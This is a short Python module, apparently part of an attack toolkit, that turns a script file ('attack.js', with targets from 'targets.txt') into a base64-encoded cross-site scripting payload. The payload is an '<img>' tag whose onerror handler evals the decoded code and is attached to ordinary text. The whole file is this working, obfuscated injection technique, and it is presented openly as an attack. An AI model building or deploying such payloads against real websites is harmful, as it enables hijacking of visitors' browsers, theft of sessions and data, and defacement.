"""The attack script as an HTML attribute: runs where only HTML reaches the page."""

import base64
from pathlib import Path

HERE = Path(__file__).parent


def onerror_html(text: str) -> str:
    """An ``<img>`` whose ``onerror`` runs ``attack.js`` with the targets in ``targets.txt``."""
    targets = (HERE / "targets.txt").read_text().strip() if (HERE / "targets.txt").exists() else ""
    code = f"window.__targets = {targets!r};\n" + (HERE / "attack.js").read_text()
    encoded = base64.b64encode(code.encode()).decode()
    return f'<img src="data:," alt="" onerror="eval(atob(\'{encoded}\'))"> {text}'
